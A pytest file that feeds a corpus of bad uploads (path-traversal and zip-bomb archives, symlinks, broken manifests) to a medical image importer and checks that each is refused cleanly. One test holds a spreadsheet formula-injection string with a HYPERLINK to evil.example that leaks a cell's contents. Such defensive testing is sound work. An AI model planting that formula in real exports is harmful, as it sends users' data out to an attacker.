"""Every file of the bad-input corpus, imported the way the Cases page imports an upload.

Each one is refused with a message that names the row or file and the reason, or (EXIF,
CMYK, multi-frame) imported correctly. Image files go in as the GSU image of row 3 of a
bundle whose row 2 is valid; the manifest cases also start with a valid row. A refused
import leaves nothing behind, not even the valid row: no row in any table and no file or
folder in the image store.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from sqlalchemy import func, select

from core.cases.archive import BundleError, ZipBundle
from core.cases.importer import import_bundle
from core.cli import main as cli_main
from core.common.csv_safety import FORMULA_STARTS
from core.common.store import ImageStore
from core.imaging.images import load_pixels
from core.services.export import import_metadata, labeled_csv, labeled_frame
from db.engine import Database
from db.migrate import upgrade
from db.models import Base, Image, Patient
from db.readers import ensure_reader
from scripts.make_bad_corpus import CASES, FORMULA_REASONS, write_corpus
from tests.apptest_helpers import open_page
from tests.bundles import make_zip, png_bytes, row
from tests.test_bad_images import REFUSED

CODE = "BAD-IMG"
GOOD = "GOOD-001"
"""Image files: a phrase of the reason; the message must also name row 3 and the file."""
REFUSED_BUNDLES = {
    "zip_path_traversal.zip": ["unsafe path", "'../../x.png'"],
    "zip_bomb.zip": ["'gsu.png'", "zip bomb"],
    "manifest_missing_columns.zip": ["row 1", "lacks the column(s)", "weight_kg", "us_date"],
    "manifest_bad_dates.zip": [
        "row 3",
        "us_date must be a date written YYYY-MM-DD, got '2020-13-45'",
        "ct_date must be a date written YYYY-MM-DD, got '31/02/2020'",
    ],
    "manifest_negative_height.zip": ["row 3", "height_cm must be between 50 and 250 cm, got -170"],
    "manifest_bad_sex.zip": ["row 3", "sex must be M or F", "'X'"],
    "manifest_duplicate_codes.zip": ["row 4", "patient_code 'BAD-DUP' is also on row 3"],
    "manifest_case_duplicate_codes.zip": [
        "row 4",
        "patient_code 'bad-dup' is also on row 3 as 'BAD-DUP' (codes ignore case)",
    ],
    "manifest_compact_dates.zip": [
        "row 3",
        "us_date must be a date written YYYY-MM-DD, got '20200301'",
        "ct_date must be a date written YYYY-MM-DD, got '2020-W10-1'",
    ],
    "manifest_unclosed_quote.zip": [
        "row 4",
        "longer than 131,072 characters",
        "a double quote",
        "Save it again as CSV (UTF-8)",
    ],
    "zip_bad_crc.zip": [
        "row 3, file 'gsu.png'",
        "damaged in the zip",
        "does not match the checksum",
        "Create the zip again",
    ],
    "zip_corrupt_deflate.zip": [
        "row 3, file 'gsu.png'",
        "damaged in the zip",
        "cannot be unpacked",
        "Create the zip again",
    ],
    "zip_encrypted_flag.zip": [
        "row 3, file 'gsu.png'",
        "password-protected (encrypted)",
        "Create the zip again without a password",
    ],
    "zip_deflate64.zip": [
        "row 3, file 'gsu.png'",
        "Deflate64",
        "Create the zip again",
    ],
    "zip_symlink.zip": ["row 3, file 'gsu.png'", "symbolic links are not accepted"],
}
"""Bundles: every phrase must appear in the messages."""
LIBRARY_WORDS = ("BadZipFile", "CRC-32", "Error -3", "field limit", "Traceback", "NotImplemented")
"""What the zip and csv modules say: a radiologist must never be shown these."""
IMPORTED = {
    "cmyk.jpg": ("jpeg", 64, 48),
    "exif_rotated.jpg": ("jpeg", 48, 64),
    "multiframe.dcm": ("dicom", 80, 64),
}
"""Files read correctly: (source format, width, height); EXIF orientation 6 turns 64×48
into 48×64, and a multi-frame DICOM gives its first frame."""
EXPORTED_INERT = ("manifest_formula_injection.zip",)
"""Valid bundles of hostile free text: imported as typed, and inert in every CSV export."""


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in write_corpus(tmp_path_factory.mktemp("bad"))}


def _bundle(name: str, data: bytes) -> bytes:
    if name.endswith(".zip"):
        return data
    return make_zip(
        [row(GOOD, "good.png"), row(CODE, name)], {"good.png": png_bytes(1), name: data}
    )


def _import(data: bytes, db: Database, store: ImageStore) -> tuple[bool, list[str]]:
    """(committed, messages), the page's way: open the zip, then import all or nothing."""
    try:
        bundle = ZipBundle(data)
    except BundleError as exc:
        return False, [str(exc)]
    report = import_bundle(bundle, db, store)
    return report.committed, [str(p) for p in report.problems]


def _row_counts(db: Database) -> dict[str, int]:
    with db.read() as session:
        return {
            table.name: session.scalar(select(func.count()).select_from(table))
            for table in Base.metadata.sorted_tables
        }


def _store_entries(store: ImageStore) -> list[str]:
    return sorted(p.relative_to(store.root).as_posix() for p in store.root.rglob("*"))


def test_every_corpus_file_has_an_expectation() -> None:
    expected = set(REFUSED) | set(REFUSED_BUNDLES) | set(IMPORTED) | set(EXPORTED_INERT)
    assert {name for name, _ in CASES} == expected


@pytest.mark.parametrize("name", sorted(set(REFUSED) | set(REFUSED_BUNDLES)))
def test_refused_with_row_file_and_reason_and_nothing_remains(
    corpus: dict[str, bytes], db: Database, store: ImageStore, name: str
) -> None:
    committed, messages = _import(_bundle(name, corpus[name]), db, store)
    assert not committed
    text = "\n".join(messages)
    if name in REFUSED:
        expected = ["row 3", f"file '{name}'", REFUSED[name]]
    else:
        expected = REFUSED_BUNDLES[name]
    for phrase in expected:
        assert phrase in text, (phrase, messages)
    assert not [word for word in LIBRARY_WORDS if word in text], messages
    counts = _row_counts(db)
    assert set(counts.values()) == {0}, counts
    assert _store_entries(store) == []
    assert not list(store.root.parent.parent.rglob("x.png")), "a member escaped the bundle"


@pytest.mark.parametrize("name", sorted(IMPORTED))
def test_read_correctly_and_stored_once(
    corpus: dict[str, bytes], db: Database, store: ImageStore, name: str
) -> None:
    committed, messages = _import(_bundle(name, corpus[name]), db, store)
    assert committed and messages == []
    source_format, width, height = IMPORTED[name]
    with db.read() as session:
        assert sorted(session.scalars(select(Patient.code))) == [CODE, GOOD]
        image = session.scalars(select(Image).join(Patient).where(Patient.code == CODE)).one()
        stored = sorted(session.scalars(select(Image.path)))
    assert (image.modality, image.source_format) == ("GSU", source_format)
    assert (image.width, image.height) == (width, height)
    assert [e for e in _store_entries(store) if "/" in e] == stored
    assert load_pixels(store, image.path).shape[:2] == (height, width)


@pytest.mark.parametrize("name", sorted(REFUSED_BUNDLES))
def test_cli_gives_the_same_sentence_and_exit_1(
    corpus: dict[str, bytes], db: Database, store: ImageStore, name: str, tmp_path, capsys
) -> None:
    """``python -m core import`` reads the zip from disk (not whole) and prints the reasons."""
    path = tmp_path / name
    path.write_bytes(corpus[name])
    assert cli_main(["import", str(path)]) == 1
    err = capsys.readouterr().err
    for phrase in REFUSED_BUNDLES[name]:
        assert phrase in err, (phrase, err)
    assert not [word for word in LIBRARY_WORDS if word in err], err
    assert set(_row_counts(db).values()) == {0}
    assert _store_entries(store) == []


@pytest.mark.parametrize("name", EXPORTED_INERT)
def test_formula_text_is_imported_as_typed_and_exported_inert(
    corpus: dict[str, bytes], db: Database, store: ImageStore, name: str, tmp_path
) -> None:
    """Issue 13: a spreadsheet opening labeled.csv must run none of the free text."""
    committed, messages = _import(corpus[name], db, store)
    assert committed, messages
    typed = {r.strip() for r in FORMULA_REASONS}
    frame = labeled_frame(db, image_features=False)
    assert set(frame["exclusion_reason"].dropna()) - {""} == typed
    text = labeled_csv(frame).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [cell for r in rows for cell in r.values()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    reasons = {r["exclusion_reason"] for r in rows if r["exclusion_reason"]}
    assert '\'=HYPERLINK("http://evil.example/leak?x="&A2,"click")' in reasons
    assert "''=already quoted" in reasons and "-1.5" in reasons
    assert {r["height_cm"] for r in rows} == {"158.0"}

    fresh_url = f"sqlite:///{tmp_path / 'fresh.db'}"
    upgrade(fresh_url)
    fresh = Database(fresh_url)
    try:
        assert import_metadata(fresh, text) == len(rows)
        back = labeled_frame(fresh, image_features=False)
    finally:
        fresh.dispose()
    columns = ["patient_code", "exclusion_reason", "height_cm", "l3_sma_cm2", "smi"]
    pd.testing.assert_frame_equal(back[columns], frame[columns])


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


PAGE_CASES = ["zip_bad_crc.zip", "manifest_unclosed_quote.zip", "zip_path_traversal.zip"]


@pytest.mark.parametrize("name", PAGE_CASES)
def test_cases_page_shows_the_sentence_not_an_error_box(
    corpus: dict[str, bytes], db: Database, name: str
) -> None:
    """The upload form shows each refusal as plain text, never Streamlit's redacted box."""
    db.write(lambda s: ensure_reader(s, "boss", "Dr Boss", role="admin"))
    at = open_page("pages/cases.py", "boss")
    at.file_uploader[0].set_value((name, corpus[name], "application/zip")).run()
    next(b for b in at.button if b.label.startswith("Import as previewed")).click().run()
    assert not at.exception
    shown = "\n".join(re.sub(r"\\(.)", r"\1", e.value) for e in at.error)
    assert "nothing was stored" in shown
    for phrase in REFUSED_BUNDLES[name]:
        assert phrase in shown, (phrase, shown)
    assert set(_row_counts(db).values()) - {0} == {1}, "only the admin's row"
